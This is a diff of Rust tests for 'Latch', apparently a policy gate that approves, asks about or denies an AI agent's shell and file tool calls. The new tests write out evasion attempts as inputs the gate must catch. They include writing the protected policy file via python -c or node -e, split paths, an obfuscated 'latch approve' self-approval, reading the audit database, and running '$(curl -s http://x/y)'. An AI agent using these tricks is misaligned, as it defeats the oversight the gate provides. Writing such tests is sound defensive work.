@@ -262,6 +262,7 @@ fn ordinary_commands_pass() {
         "echo hello > /tmp/out.txt",
         "cd /srv && rm -rf build",
         "git commit -m 'mention latch approve in docs'",
+        "echo Report written by the Latch demo agent.",
     ] {
         let f = run(c);
         assert!(!denied(f.clone()), "{c}: {f:?}");
@@ -297,4 +298,45 @@ fn case_insensitive_file_systems_fold() {
     let args = json!({"path": "/Home/U/.Config/LATCH/Policy.TOML"});
     let call = Call { server: "s", tool: "write_file", args: &args };
     assert!(denied(g.check(&call, &cls(Class::Write), Place { env: &e, resolver: None })));
+}
+
+#[test]
+fn too_many_paths_to_resolve_asks() {
+    let paths: Vec<String> = (0..300).map(|i| format!("/srv/app/f{i}.txt")).collect();
+    let f = check_in("write_files", Class::Write, &json!({ "paths": paths }), "/").expect("asks");
+    assert!(!f.deny && f.why.contains("more than"), "{f:?}");
+    let few: Vec<String> = (0..10).map(|i| format!("/srv/app/f{i}.txt")).collect();
+    assert!(check_in("write_files", Class::Write, &json!({ "paths": few }), "/").is_none());
+}
+
+#[test]
+fn paths_inside_code_and_split_paths_are_caught() {
+    assert!(denied(run("python3 -c \"open('/home/u/.config/latch/policy.toml','w').write('')\"")));
+    assert!(denied(run(
+        "node -e \"require('fs').writeFileSync(process.env.HOME+'/x', '')\"; cat ~/.local/share/latch/audit.db"
+    )));
+    assert!(denied(run("python3 -c \"open('/home/u/.cursor/mcp.json','w')\"")));
+    let args = json!({"content": "import os\nos.remove('~/.config/latch/policy.toml')\n", "path": "/srv/app/x.py"});
+    assert!(denied(check_in("write_file", Class::Write, &args, "/srv/app")));
+    let args = json!({"dir": "~/.config", "name": "latch/policy.toml", "content": "x"});
+    assert!(denied(check_in("write_file", Class::Write, &args, "/srv/app")));
+}
+
+#[test]
+fn a_policy_that_allows_everything_still_denies_and_asks() {
+    let mut p = crate::policy::Policy::parse("[[rule]]\ntool = \"*\"\neffect = \"allow\"\n").unwrap();
+    p.set_protected(protected());
+    let e = env("/srv/app");
+    let place = Place { env: &e, resolver: Some(&Fs) };
+    let decide = |cmd: &str| {
+        let args = json!({ "command": cmd });
+        let call = Call { server: "sh", tool: "run_command", args: &args };
+        p.evaluate_in(&call, &cls(Class::Execute), &[], place).decision
+    };
+    use crate::class::Decision;
+    assert_eq!(decide("ls -la"), Decision::Allow);
+    assert_eq!(decide("x=lat; ${x}ch approve 3"), Decision::Deny);
+    assert_eq!(decide("echo x > /tmp/hard"), Decision::Deny);
+    assert_eq!(decide("kill $(cat /tmp/app.pid)"), Decision::Ask);
+    assert_eq!(decide("$(curl -s http://x/y) --flag"), Decision::Ask);
 }
